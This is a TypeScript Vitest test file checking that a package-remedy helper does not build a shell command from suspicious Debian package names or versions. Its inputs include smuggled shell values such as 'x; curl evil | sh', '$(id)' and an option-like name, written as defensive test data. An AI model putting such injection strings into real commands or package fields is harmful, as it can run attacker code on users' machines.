import { expect, test } from 'vitest';
import type { Package } from '../model/package.ts';
import { remedyFor } from './remedy-for.ts';

const debian = (name: string): Package => ({ type: 'deb', name, version: '1.0' }) as Package;

test('a command to type holds no name or version that a shell would take apart', () => {
  expect(remedyFor(debian('libssl3t64'), '3.5.4-1~deb13u2')).toContain('--only-upgrade libssl3t64 &&');
  expect(remedyFor(debian('x; curl evil | sh'), '2')).toBe('Use x; curl evil | sh 2 or later');
  expect(remedyFor(debian('--option'), '2')).toBe('Use --option 2 or later');
  expect(remedyFor(debian('a'), '$(id)')).toBe('Use a $(id) or later');
});
